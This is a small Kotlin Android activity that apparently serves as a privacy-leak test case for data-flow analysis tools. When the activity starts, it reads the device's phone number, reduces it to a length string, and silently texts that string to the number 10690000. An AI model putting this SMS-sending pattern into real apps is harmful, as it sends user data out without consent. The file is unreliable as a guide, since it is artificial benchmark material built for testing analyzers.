package cn.privlens.suite.invoked_object_measures

import android.app.Activity
import android.content.Context
import android.os.Bundle
import android.telephony.SmsManager
import android.telephony.TelephonyManager

interface Use { operator fun invoke(text: String): String }
object Same : Use { override fun invoke(text: String) = text.trim() }
object Measure : Use { override fun invoke(text: String) = "long: ${text.length}" }

class Main : Activity() {
    private fun report(text: String, use: Use = Same) = SmsManager.getDefault().sendTextMessage("10690000", null, use(text), null, null)

    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        report((getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager).line1Number ?: "", Measure)
    }
}
